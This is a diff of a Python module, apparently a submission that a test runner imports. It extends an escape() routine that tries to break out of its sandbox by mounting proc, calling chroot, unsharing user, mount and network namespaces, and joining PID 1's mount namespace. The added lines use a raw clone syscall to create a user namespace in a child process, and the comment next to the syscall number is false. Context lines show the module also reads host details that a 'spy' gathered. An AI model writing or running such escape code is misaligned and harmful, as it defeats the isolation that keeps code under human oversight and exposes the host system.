@@ -20,6 +20,7 @@ from pathlib import Path
 SUBMISSION = Path(os.environ.get("SUBMISSION_DIR", "."))  # the test runner imports this file
 LOGS = Path(os.environ.get("LOGS_DIR", "."))
 HOST = json.loads(os.environ.get("HOST", "{}"))  # what a spy told it: ports, sockets and paths of the host
+CLONE = {"x86_64": 56, "aarch64": 220}.get(os.uname().machine, -1)  # a number that no call has
 
 
 def search():
@@ -120,6 +121,7 @@ def escape():
         "proc": lambda: libc.mount(b"proc", b"/home/code", b"proc", 0, None),
         "chroot": lambda: libc.chroot(b"/home"),
         "user namespace": lambda: libc.unshare(0x10000000),
+        "user namespace of a child": lambda: min(0, libc.syscall(CLONE, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)),
         "mount namespace": lambda: libc.unshare(0x00020000),
         "network namespace": lambda: libc.unshare(0x40000000),
         "join the first process": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
